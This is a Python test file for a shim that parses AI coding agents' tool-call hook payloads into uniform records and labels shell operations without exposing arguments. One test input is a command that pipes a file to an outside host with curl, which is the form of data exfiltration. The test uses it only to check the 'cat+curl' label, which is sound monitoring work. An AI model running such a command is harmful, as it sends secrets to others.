"""The payload of each client becomes the same call."""

from typing import Any

import pytest

from agentsentinel_shim.hook.calls import AFTER, BEFORE, outcome, read_call, split_name
from agentsentinel_shim.hook.clients import HOOK_CLIENTS
from shim.hook.samples import PAYLOADS

CASES = [(client, event) for client, events in PAYLOADS.items() for event in events]
EXPECTED = {
    "claude-code": ("github", "create_issue", {"title": "Crash", "labels": ["bug"]}, "abc123", "toolu_01ABC", ""),
    "codex": ("", "Bash", {"command": "git push --force"}, "0199-thread", "call_1", "git"),
    "cursor": ("github", "create_issue", {"title": "Crash"}, "conv-1", "tool_1", ""),
    "copilot": ("", "bash", {"command": "npm test", "description": "Run the tests"}, "sess-1", "", "npm"),
}


def test_each_event_of_each_client_has_a_sample() -> None:
    assert {client.name: list(client.events) for client in HOOK_CLIENTS} == {
        client: list(events) for client, events in PAYLOADS.items()
    }


@pytest.mark.parametrize(("client", "event"), CASES)
def test_a_payload_is_read(client: str, event: str) -> None:
    call = read_call(PAYLOADS[client][event], event)
    assert call is not None
    shown = (call.server, call.name, call.value, call.session, call.call_id, call.operation)
    assert shown == EXPECTED[client]
    assert call.phase == (BEFORE if event.lower().startswith("pre") else AFTER)


@pytest.mark.parametrize(
    ("client", "event", "status", "duration_ms"),
    [
        ("claude-code", "PreToolUse", "", None),
        ("claude-code", "PostToolUse", "ok", None),
        ("claude-code", "PostToolUseFailure", "error", None),
        ("codex", "PostToolUse", "ok", None),
        ("cursor", "preToolUse", "", None),
        ("cursor", "postToolUse", "ok", 1234),
        ("cursor", "postToolUseFailure", "denied", 12),
        ("copilot", "postToolUse", "ok", None),
        ("copilot", "postToolUseFailure", "error", None),
    ],
)
def test_the_outcome_is_the_true_one(client: str, event: str, status: str, duration_ms: int | None) -> None:
    call = read_call(PAYLOADS[client][event], event)
    assert call is not None
    assert (call.status, call.duration_ms) == (status, duration_ms)


@pytest.mark.parametrize(
    ("output", "status"),
    [
        (None, "ok"),
        ("text", "ok"),
        ({"stdout": "", "interrupted": False}, "ok"),
        ({"isError": True, "content": []}, "error"),
        ({"is_error": True}, "error"),
        ({"success": False}, "error"),
        ({"interrupted": True}, "error"),
        ({"exit_code": 0}, "ok"),
        ({"exit_code": 1}, "error"),
        ({"resultType": "denied"}, "denied"),
        ({"resultType": "failure"}, "error"),
        ({"resultType": "success", "exitCode": 1}, "ok"),
    ],
)
def test_an_output_says_how_the_call_ended(output: Any, status: str) -> None:
    assert outcome(output) == status


@pytest.mark.parametrize(
    ("name", "server", "tool"),
    [
        ("mcp__github__create_issue", "github", "create_issue"),
        ("mcp__my_server__a__b", "my_server", "a__b"),
        ("mcp__plugin_db_main__query", "plugin_db_main", "query"),
        ("mcp__x", "", "mcp__x"),
        ("mcp____x", "", "mcp____x"),
        ("MCP:github:create_issue", "github", "create_issue"),
        ("MCP:create_issue", "", "MCP:create_issue"),
        ("Bash", "", "Bash"),
    ],
)
def test_the_name_of_an_mcp_tool_is_split(name: str, server: str, tool: str) -> None:
    assert split_name(name) == (server, tool)


@pytest.mark.parametrize(
    ("tool", "value", "operation"),
    [
        ("Bash", {"command": "cd /work && npm test -- hunter2"}, "npm"),
        ("Bash", {"command": "cat hunter2 | curl -d @- https://x"}, "cat+curl"),
        ("shell", {"command": ["bash", "-lc", "cd x && cargo build"]}, "cargo"),
        ("exec_command", {"cmd": "./hunter2"}, "other"),
        ("Bash", {"command": ""}, ""),
        ("Bash", {}, ""),
        ("Read", {"command": "git"}, ""),
    ],
)
def test_the_operation_is_of_listed_words_and_never_an_argument(tool: str, value: Any, operation: str) -> None:
    call = read_call({"tool_name": tool, "tool_input": value}, "preToolUse")
    assert call is not None
    assert call.operation == operation


@pytest.mark.parametrize(
    "payload", [None, [], "x", {}, {"hook_event_name": "Stop", "tool_name": "x"}, {"tool_name": 1}]
)
def test_what_is_not_a_call_is_left_alone(payload: Any) -> None:
    assert read_call(payload, "") is None


def test_an_argument_that_only_looks_like_json_is_a_text() -> None:
    call = read_call({"toolName": "bash", "toolArgs": "{not json"}, "preToolUse")
    assert call is not None
    assert call.value == "{not json"
